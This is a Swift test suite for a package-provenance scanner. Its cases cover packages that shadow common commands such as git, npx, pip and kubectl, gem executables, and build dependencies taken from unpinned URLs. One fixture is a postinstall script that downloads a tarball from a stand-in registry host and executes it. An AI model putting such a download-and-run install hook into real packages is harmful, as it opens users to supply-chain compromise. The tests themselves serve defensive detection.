import Testing

@testable import Provenance

/// What a package puts on the path, and what its build fetches.
@Suite("A program that a package brings")
struct ProgramTests {
    private func inspect(_ file: String, _ text: String, _ name: String) -> [Mark] {
        KindsTests.inspect([(file, text), KindsTests.info], name: name).marks
    }

    @Test(
        "is told when it takes the place of one that others expect",
        arguments: [
            ("package.json", #"{"name":"x","version":"1.0.0","bin":{"git":"g.js"}}"#, "x-1.tgz"),
            (
                "package.json", #"{"name":"@a/fast","version":"1.0.0","bin":{"npx":"n.js"}}"#,
                "fast-1.tgz"
            ),
            ("pyproject.toml", "[project.scripts]\npip = \"x:main\"\n", "x-1.tar.gz"),
            ("pyproject.toml", "[tool.poetry.scripts]\nkubectl = \"x:main\"\n", "x-1.tar.gz"),
        ]
    )
    func shadows(file: String, text: String, name: String) {
        let marks = inspect(file, text, name)
        #expect(marks.contains { $0.rule == "SHADOW-1" && $0.points >= 80 })
    }

    @Test(
        "is its own, or one of its family's",
        arguments: [
            ("package.json", #"{"name":"npm","version":"1.0.0","bin":{"npm":"a","npx":"b"}}"#),
            ("package.json", #"{"name":"@yarnpkg/yarn","version":"1.0.0","bin":{"yarn":"a"}}"#),
            ("package.json", #"{"name":"x","version":"1.0.0","bin":{"x-format":"a"}}"#),
            ("package.json", #"{"name":"git","version":"1.0.0","bin":"g.js"}"#),
        ]
    )
    func owns(file: String, text: String) {
        #expect(!inspect(file, text, "x-1.tgz").contains { $0.rule == "SHADOW-1" })
    }

    /// A gzip of one block that is not compressed (RFC 1951 §3.2.4).
    private func gzip(_ text: String) -> [UInt8] {
        let size = [UInt8(text.utf8.count & 0xFF), UInt8(text.utf8.count >> 8)]
        return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF, 1] + size + size.map { ~$0 }
            + Array(text.utf8) + [0, 0, 0, 0] + size + [0, 0]
    }

    @Test(
        "of a gem is told as well, and bundler's own is not",
        arguments: ["text_table", "bundler"]
    )
    func gems(name: String) {
        let text = "name: \(name)\nversion:\n  version: 1.0.0\nexecutables:\n- bundle\n"
        let bytes = gzip(text)
        let entry = ArchiveEntry(name: "metadata.gz", kind: .file, size: bytes.count)
        let layout = PackageLayout([.init(entry: entry, bytes: bytes)], .gem, fileName: "x.gem")
        #expect(layout.package?.name == name)
        #expect(layout.marks.contains { $0.rule == "SHADOW-1" } == (name != "bundler"))
    }

    static let runner = """
        const { execFile } = require('child_process');
        const fs = require('fs'), os = require('os'), path = require('path');
        exports.run = (code) => {
          const file = path.join(os.tmpdir(), 'main.py');
          fs.writeFileSync(file, code);
          execFile('python3', [file]);
        };
        """

    @Test(
        "does what its user orders, which a library does not",
        arguments: [("bin/cli.js", true), ("index.js", false), ("lib/start.js", false)]
    )
    func orders(path: String, isProgram: Bool) {
        let manifest = """
            {"name":"x","version":"1.0.0","main":"lib/start.js","bin":{"x-run":"\(path)"}}
            """
        let caller = "const { run } = require('../lib/runner');\nrun(process.argv[2]);\n"
        let files = [("package.json", manifest), (path, caller), ("lib/runner.js", Self.runner)]
        let found = KindsTests.inspect(files, name: "x-1.tgz")
        #expect((found.answer == .pass) == isProgram, "\(found.marks)")
    }

    static let fetcher = """
        const fs = require('fs'), cp = require('child_process'), https = require('https');
        const path = require('path');
        function fetch(url) {
          return new Promise((done) => https.get(url, (answer) => {
            const pieces = [];
            answer.on('data', (piece) => pieces.push(piece));
            answer.on('end', () => done(Buffer.concat(pieces)));
          }));
        }
        function check(...command) { cp.execFileSync(command.shift(), command); }
        const place = path.join(__dirname, 'bin', 'x');
        fetch('https://HOST/@x/linux-x64/-/linux-x64-1.0.0.tgz').then((bytes) => {
          fs.writeFileSync(place, bytes);
          check(process.execPath, place);
        });
        """

    @Test(
        "is fetched from the registry that the package came from, or from a stranger",
        arguments: [("registry.npmjs.org", false), ("registry.npmjs.example", true)]
    )
    func fetches(host: String, isDoubted: Bool) {
        let manifest = #"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#
        let script = Self.fetcher.replacing("HOST", with: host)
        let found = KindsTests.inspect(
            [("package.json", manifest), ("i.js", script)],
            name: "x-1.tgz"
        )
        #expect((found.answer != .pass) == isDoubted, "\(found.marks)")
    }

    @Test(
        "is built with nothing that an address may change",
        arguments: [
            ("tool @ https://files.example.invalid/tool-1-py3-none-any.whl", 70),
            ("tool @ git+https://github.com/a/tool", 40),
            ("tool @ git+https://github.com/a/tool@" + String(repeating: "a1", count: 20), 0),
            (
                "tool @ https://files.example.invalid/tool-1.whl#sha256="
                    + String(repeating: "0f", count: 32), 0
            ),
            ("setuptools>=68", 0),
        ]
    )
    func needs(need: String, points: Int) {
        let text = "[build-system]\nrequires = [\"\(need)\"]\n"
        let found = inspect("pyproject.toml", text, "x-1.tar.gz").filter { $0.rule == "DEP-1" }
        #expect(found.map(\.points).max() ?? 0 == points)
    }
}
